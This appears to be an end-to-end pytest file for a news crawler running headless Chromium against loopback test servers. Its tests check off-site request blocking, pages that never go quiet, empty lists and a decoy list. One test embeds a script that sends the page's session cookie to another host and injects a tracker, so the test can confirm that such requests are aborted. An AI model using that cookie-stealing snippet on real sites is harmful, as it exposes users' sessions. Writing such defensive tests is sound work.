"""The headless browser stays on the crawled site and does not wait for a page to go quiet.

Real Chromium through scrapy-playwright, pages served over loopback: a homepage whose Most
Popular list a script builds, as the current layout's is.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from newsbot.exitcodes import EXIT_MONITORS_FAILED
from tests.crawling import crawl

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

FILL_POPULAR = """
setTimeout(function () {
  var list = document.getElementById('popular');
  for (var i = 1; i <= 10; i++) {
    var item = document.createElement('li');
    var link = document.createElement('a');
    link.href = '/article/' + (10000000 + i);
    link.textContent = 'Story number ' + i;
    item.appendChild(link);
    list.appendChild(item);
  }
}, 300);
"""
POLL_FOREVER = "setInterval(function () { fetch('/poll').catch(function () {}); }, 200);"


def homepage(script: str) -> bytes:
    return (
        "<!DOCTYPE html><html><head><title>Home</title></head><body>"
        "<h2>Most Popular</h2><ul id='popular'></ul>"
        f"<script>{script}</script></body></html>"
    ).encode()


@dataclass
class Host:
    """A loopback web server that answers ``pages`` and records every request."""

    server: ThreadingHTTPServer
    pages: dict[str, bytes]
    requests: list[dict[str, Any]] = field(default_factory=list)

    @property
    def base_url(self) -> str:
        host, port = self.server.server_address[:2]
        return f"http://{host!s}:{port}"


@contextmanager
def serving(address: str, pages: dict[str, bytes]) -> Iterator[Host]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            host.requests.append({"path": self.path, "cookie": self.headers.get("Cookie")})
            body = host.pages.get(self.path.split("?")[0])
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body or b"")))
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer((address, 0), Handler)
    server.daemon_threads = True
    host = Host(server, pages)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield host
    finally:
        server.shutdown()
        server.server_close()


def no_failed_request(stats: dict[str, Any]) -> bool:
    return not any(key.startswith(("newsbot/requests/failed", "newsbot/lost/")) for key in stats)


def test_browser_requests_to_other_hosts_are_aborted_and_counted(tmp_path):
    with serving("127.0.0.2", {"/tracker.js": b"", "/collect": b""}) as other:
        snoop = f"""
        document.cookie = 'session=secret-token; path=/';
        fetch('{other.base_url}/collect?' + encodeURIComponent(document.cookie),
              {{mode: 'no-cors', credentials: 'include'}}).catch(function () {{}});
        var tracker = document.createElement('script');
        tracker.src = '{other.base_url}/tracker.js';
        document.head.appendChild(tracker);
        """
        with serving("127.0.0.1", {"/": homepage(snoop + FILL_POPULAR)}) as site:
            result = crawl(site, tmp_path, "-a", "popular=only")
    assert result.returncode == 0, result.log[-3000:]
    assert other.requests == [], "nothing reaches a host outside the site"
    assert result.stats["newsbot/browser/aborted_offsite"] >= 2
    assert result.stats["newsbot/popular/snapshots"] == 1, "the site's own script still ran"
    assert len(result.popular) == 10


def test_a_page_that_never_goes_quiet_is_captured_once_its_list_is_there(tmp_path):
    with serving("127.0.0.1", {"/": homepage(POLL_FOREVER + FILL_POPULAR), "/poll": b"{}"}) as site:
        result = crawl(site, tmp_path, "-a", "popular=only",
                       "-s", "PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT=10000")  # fmt: skip
    assert result.returncode == 0, result.log[-3000:]
    assert result.stats["newsbot/popular/snapshots"] == 1
    assert [rank["rank"] for rank in result.popular] == list(range(1, 11))
    assert no_failed_request(result.stats)


def test_a_list_that_never_fills_is_taken_as_it_is_after_the_wait(tmp_path):
    with serving("127.0.0.1", {"/": homepage(POLL_FOREVER), "/poll": b"{}"}) as site:
        result = crawl(site, tmp_path, "-a", "popular=only",
                       "-s", "NEWSBOT_POPULAR_RENDER_TIMEOUT=2",
                       "-s", "PLAYWRIGHT_DEFAULT_NAVIGATION_TIMEOUT=10000")  # fmt: skip
    # The crawl finishes; the empty list is a page not understood, which fails the monitors.
    assert result.returncode == EXIT_MONITORS_FAILED, result.log[-3000:]
    assert result.stats["finish_reason"] == "finished"
    assert result.stats["newsbot/popular/empty"] == 1, "read, and found empty"
    assert no_failed_request(result.stats)


def test_a_most_read_box_a_script_fills_is_waited_for_past_a_decoy(tmp_path):
    decoy = (
        "<h3>Popular</h3><ul><li><a href='/article/10000091'>Decoy one</a></li>"
        "<li><a href='/article/10000092'>Decoy two</a></li></ul>"
    )
    page = (
        "<!DOCTYPE html><html><head><title>Home</title></head><body>"
        f"{decoy}<h2> MOST READ </h2><ol id='popular'></ol>"
        f"<script>{FILL_POPULAR}</script></body></html>"
    ).encode()
    with serving("127.0.0.1", {"/": page}) as site:
        result = crawl(site, tmp_path, "-a", "popular=only")
    assert result.returncode == 0, result.log[-3000:]
    assert result.stats["newsbot/popular/rendered"] == 1
    assert [(r["rank"], r["article_id"]) for r in result.popular] == [
        (n, str(10000000 + n)) for n in range(1, 11)
    ]
